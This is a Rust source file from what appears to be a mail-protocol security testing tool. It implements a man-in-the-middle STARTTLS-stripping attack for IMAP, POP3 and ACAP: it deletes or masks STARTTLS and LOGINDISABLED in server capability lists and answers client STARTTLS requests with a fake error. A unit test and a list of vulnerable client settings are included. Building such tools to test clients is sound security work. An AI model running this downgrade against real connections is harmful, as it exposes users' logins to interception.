//! Removes the offer of TLS from every capability list on its way to the client.

use super::kit::{LOGINS, with_logins};
use super::offer::{OFFER, with_offer};
use super::{Attack, Deciding, Group, Message, Moves, Tamper, group};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;
use crate::proto::{Answer, Dialect};

switch!(
    Middle WORDS,
    "strip",
    Setting,
    &["starttls+logindisabled", "starttls"],
    &[],
    "Words removed",
    "The offer of TLS alone, or the ban on clear-text logins with it."
);

switch!(
    Middle PLACES,
    "places",
    Setting,
    &["all", "greeting", "answers"],
    &[],
    "Lists changed",
    "Every list, only the one in the greeting, or only those that come later."
);
switch!(
    Middle IN_PLACE,
    "in-place",
    Setting,
    &["deleted", "filled"],
    &[],
    "In the place of the words",
    "Nothing, or other letters of the same length."
);

static SWITCHES: &[&Switch] = &[&WORDS, &PLACES, &IN_PLACE, &LOGINS, &OFFER];

static DECIDING: &[Deciding] = &[
    Deciding { protocols: &[Protocol::Imap], given: &[], right: &[], wrong: &["client.tls=opportunistic"] },
    Deciding { protocols: &[Protocol::Imap], given: &[], right: &[], wrong: &["client.forgets-policy=on"] },
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["middle.logins=answered"],
        right: &[],
        wrong: &["client.tls=opportunistic"],
    },
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["middle.logins=answered"],
        right: &[],
        wrong: &["client.forgets-policy=on"],
    },
    Deciding {
        protocols: &[Protocol::Acap],
        given: &["middle.logins=answered"],
        right: &[],
        wrong: &["client.tls=opportunistic", "client.plain-in-clear=on"],
    },
    Deciding {
        protocols: &[Protocol::Acap],
        given: &["middle.logins=answered"],
        right: &[],
        wrong: &["client.forgets-policy=on", "client.plain-in-clear=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "strip-capability",
    title: "Strip the offer",
    about: "Deletes STARTTLS from what the server offers, so that the client believes there is no TLS to ask for.",
    group: Group::Negotiation,
    known: &[
        group::USENIX,
        group::NDSS,
        "CVE-2021-22946 curl",
        "GHSA-3588-2mr7-vrcm parsedmarc",
        "the tool striptls",
    ],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let strip = Strip {
            dialect,
            login_disabled_too: switches.get(&WORDS) == "starttls+logindisabled",
            places: switches.get(&PLACES),
            fills: switches.get(&IN_PLACE) == "filled",
        };
        with_logins(switches, dialect, with_offer(switches, dialect, Box::new(strip)))
    },
    success: &success::LOST,
    deciding: DECIDING,
};

#[derive(Debug)]
struct Strip {
    dialect: &'static Dialect,
    login_disabled_too: bool,
    places: &'static str,
    fills: bool,
}

impl Strip {
    /// A list without the words, or with others of their length.
    fn strip(&self, octets: &[u8]) -> Option<Vec<u8>> {
        let mut words = self.dialect.starttls_words.to_vec();
        words.extend(self.login_disabled_too.then_some("LOGINDISABLED"));
        let stripped = (self.dialect.without_capabilities)(octets, &|word| words.contains(&word))?;
        if !self.fills {
            return Some(stripped);
        }
        let mut filled = octets.to_vec();
        let upper = octets.to_ascii_uppercase();
        for word in words {
            for at in memchr::memmem::find_iter(&upper, word) {
                let end = at.saturating_add(word.len());
                if let Some(place) = filled.get_mut(at..end) {
                    place.fill(b'X');
                }
            }
        }
        Some(filled)
    }
}

impl Tamper for Strip {
    fn message(&mut self, message: Message<'_>, moves: &mut Moves) {
        if message.from == Side::Client {
            // A client that asks all the same gets the answer of a server that does not know the command.
            match self.dialect.starttls_tag(message.octets) {
                Some(tag) => {
                    moves.answer((self.dialect.answer)(&tag, Answer::Bad, "this command is not known here"))
                }
                None => moves.pass(),
            }
            return;
        }
        let here = match self.places {
            "greeting" => message.is_greeting(),
            "answers" => !message.is_greeting(),
            _ => true,
        };
        let stripped = if here { self.strip(message.octets) } else { None };
        match stripped {
            Some(octets) => moves.replace(octets),
            None => moves.pass(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::{Move, Relay};
    use crate::base::{Layer, Origin, Switches};

    #[test]
    fn the_offer_goes_from_every_place_and_nothing_else_changes() {
        let mut relay =
            Relay::new(vec![(ATTACK.build)(&Switches::default(), crate::proto::imap::RECORD.dialect)]);
        let table = [
            ("* CAPABILITY IMAP4rev1 STARTTLS LOGINDISABLED\r\n", "* CAPABILITY IMAP4rev1\r\n"),
            (
                "* OK [CAPABILITY IMAP4rev1 starttls AUTH=PLAIN] hi\r\n",
                "* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN] hi\r\n",
            ),
            ("* OK STARTTLS is a word here\r\n", "* OK STARTTLS is a word here\r\n"),
        ];
        for (sent, seen) in table {
            let moves = relay.message(Side::Server, Layer::Clear, sent.as_bytes());
            let Some(Move::Deliver(delivery)) = moves.first() else { panic!("nothing delivered") };
            assert_eq!(String::from_utf8_lossy(&delivery.octets), seen);
            assert_eq!(delivery.origin, if sent == seen { Origin::Genuine } else { Origin::Changed });
        }
    }
}
